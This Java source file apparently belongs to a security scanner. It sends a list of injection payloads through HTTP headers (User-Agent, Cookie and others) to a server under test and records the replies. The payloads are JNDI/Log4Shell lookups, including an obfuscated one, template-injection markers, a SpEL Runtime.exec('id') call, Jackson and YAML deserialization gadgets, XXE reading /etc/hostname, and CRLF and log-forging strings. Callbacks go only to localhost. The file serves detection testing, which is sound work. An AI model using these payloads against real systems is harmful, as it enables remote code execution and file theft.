package dev.plumbline.attack;

import java.util.List;
import java.util.Random;

/** Texts that something else than a database might run, and the marks of its having done so. */
public final class Programs {
    /** What some of them come to. */
    public static final String EVALUATED = "62615533";

    static final List<String> HEADERS =
            List.of("User-Agent", "Referer", "X-Request-Id", "Accept-Language", "X-Api-Version", "Cookie");

    private static final List<String> TEXTS = List.of(
            "${7919*7907}",
            "${jndi:ldap://127.0.0.1:PORT/a}",
            "#{7919*7907}",
            "*{7919*7907}",
            "{{7919*7907}}",
            "<%= 7919*7907 %>",
            "${{7919*7907}}",
            "@{7919*7907}",
            "~{7919*7907}",
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "${${lower:j}ndi:rmi://127.0.0.1:PORT/a}",
            "${jndi:dns://127.0.0.1:PORT/a}",
            "#{T(java.net.URI).create('http://127.0.0.1:PORT/').toURL().openStream()}",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
            "{\"@class\":\"java.lang.ProcessBuilder\"}",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://127.0.0.1:PORT/\"]]]]",
            "a\r\nFORGED 1970-01-01 ERROR all is lost",
            "a%0d%0aFORGED: header",
            "a\nFORGED",
            "\u001b[31mFORGED",
            "%n%s%x%d",
            "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><a>&x;</a>",
            "<!DOCTYPE a [<!ENTITY x SYSTEM \"http://127.0.0.1:PORT/x\">]><a>&x;</a>",
            "__${7919*7907}__::.x",
            "new java.util.Date()");

    private Programs() {}

    /** Those that go out call a port of this machine. */
    public static List<String> calling(int port) {
        return TEXTS.stream()
                .map(text -> text.replace("PORT", String.valueOf(port)))
                .toList();
    }

    /** A request whose header carries a text as it is, line breaks and all. */
    public static String request(String path, String header, String text) {
        return "GET " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + header + ": " + text
                + "\r\n\r\n";
    }

    /** What the server says to each text in each header, at one of some paths. */
    public static List<String> inHeaders(int server, List<String> texts, List<String> paths) {
        Random random = new Random(19);
        return texts.stream()
                .flatMap(text -> HEADERS.stream()
                        .map(header -> header + ": " + text + " -> "
                                + RawHttp.exchange(
                                        server, request(paths.get(random.nextInt(paths.size())), header, text))))
                .toList();
    }
}
